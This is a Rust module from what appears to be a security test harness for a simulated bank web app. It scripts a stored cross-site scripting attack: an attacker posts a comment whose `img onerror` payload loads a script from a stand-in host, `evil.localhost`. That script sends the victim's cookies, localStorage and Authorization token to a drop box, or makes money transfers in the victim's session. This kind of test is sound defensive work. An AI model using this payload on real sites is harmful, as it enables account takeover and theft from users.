//! A script of the attacker's in the bank's own page: it comes by a comment, and what it finds arrives at the drop box.

use std::collections::BTreeMap;
use std::time::Duration;

use anyhow::{Context, bail};
use serde::Deserialize;
use serde_json::json;

use super::{VICTIM, page, visits};
use crate::lab::actor::Actor;
use crate::lab::agent::{Agent, Ask};
use crate::lab::cast;
use crate::lab::exchange::Purpose;
use crate::lab::stage::Stage;
use crate::lab::steps::{Done, log_in};

/// How long a script may take until it has sent something home.
const PATIENCE: Duration = Duration::from_secs(20);

/// What the script sends to the drop box.
#[derive(Deserialize)]
struct Loot {
    by: String,
    #[serde(default)]
    cookie: String,
    #[serde(default)]
    local: BTreeMap<String, String>,
    #[serde(default)]
    authorization: Option<String>,
    #[serde(default)]
    why: String,
}

/// The attacker uses what arrives, and nothing else.
pub(super) async fn steal(stage: &mut Stage, thief: Actor) -> anyhow::Result<Done> {
    let (loot, _) = inject(stage, thief, "").await?;
    let local: Vec<_> = loot.local.into_iter().collect();
    let token = loot.authorization.as_deref().and_then(|line| line.split_once(' ')).map(|(_, token)| token);
    let now = stage.now();
    let read = stage.with_two(thief, VICTIM, |thief, from| thief.take_home(from, &loot.cookie, &local, token, now));
    let proves = stage.agent(VICTIM).proves() && !read.is_empty();
    let key = if proves { ", and not the key that its proofs are made with" } else { "" };
    Ok(Done::quietly(match read.as_slice() {
        [] => format!("a script in the {VICTIM}'s page found no credential that it could read"),
        found => format!("a script in the {VICTIM}'s page sent home {}{key}", found.join(" and ")),
    }))
}

pub(super) async fn ride(stage: &mut Stage, attacker: Actor) -> anyhow::Result<Done> {
    let to: String = url::form_urlencoded::byte_serialize(cast::account(attacker).email.as_bytes()).collect();
    let (_, numbers) = inject(stage, attacker, &format!("?ride={to}")).await?;
    let number = visits::last_of(stage, &numbers, "POST", "/api/transfer");
    let done = Done::exchanged(stage, number.context("the script sent the bank nothing")?);
    Ok(Done { said: format!("a script in the {VICTIM}'s page sent {}", done.said), ..done })
}

/// Posts the script as a comment, has the victim open the comments, and waits until something arrives. Transfers meanwhile
/// are the script's.
async fn inject(stage: &mut Stage, attacker: Actor, query: &str) -> anyhow::Result<(Loot, Vec<usize>)> {
    post(stage, attacker, query).await?;
    visits::begin(stage)?;
    let before = stage.server.loot().last().map_or(0, |loot| loot.number);
    page::open_comments(stage).await?;
    let text = tokio::time::timeout(PATIENCE, next_loot(stage, before)).await;
    let text = text.ok().context("the script in the comment sent nothing to the drop box")??;
    let browser = page::chromium(stage)?;
    page::ready(&browser, "comments").await?;
    let numbers = visits::end(stage, |visit| {
        let rides = visit.method == "POST" && visit.path == "/api/transfer";
        rides.then_some((attacker, Purpose::Action))
    })?;
    let loot: Loot = serde_json::from_str(&text).context("what the script sent is in an unknown form")?;
    match loot.by.as_str() {
        "failed" => bail!("the script in the comment failed: {}", loot.why),
        _ => Ok((loot, numbers)),
    }
}

/// The attacker is a customer too, and comments from a client of its own: what it holds for the attack stays as it is.
pub(super) async fn post(stage: &mut Stage, attacker: Actor, query: &str) -> anyhow::Result<()> {
    let bank = stage.agent(attacker).page().clone();
    let own = Agent::new(attacker, cast::account(attacker), bank.clone()).proving(&stage.design);
    let held = stage.replace(own);
    let port = bank.port().map(|port| format!(":{port}")).unwrap_or_default();
    let script = format!("http://evil.localhost{port}/payload.js{query}");
    let text = format!(
        "<img src=x onerror=\"let s=document.createElement('script');s.src='{script}';document.head.append(s);this.remove()\">"
    );
    let posted = async {
        let login = log_in::run(stage, attacker).await?;
        anyhow::ensure!(login.went_through, "the attacker can't log in to comment: {}", login.said);
        let number =
            stage.ask(attacker, Ask::post("/api/comments", Some(json!({ "text": text })), Purpose::Action)).await?;
        let done = Done::exchanged(stage, number);
        anyhow::ensure!(done.went_through, "the attacker can't comment: {}", done.said);
        Ok(())
    };
    let posted = posted.await;
    stage.replace(held);
    posted
}

/// The first piece of loot after the `before`th.
async fn next_loot(stage: &Stage, before: u64) -> anyhow::Result<String> {
    let mut visited = stage.server.visited().context("the server keeps no visits")?;
    loop {
        if let Some(loot) = stage.server.loot().into_iter().find(|loot| loot.number > before) {
            return Ok(loot.text);
        }
        visited.changed().await.context("the server has ended")?;
    }
}
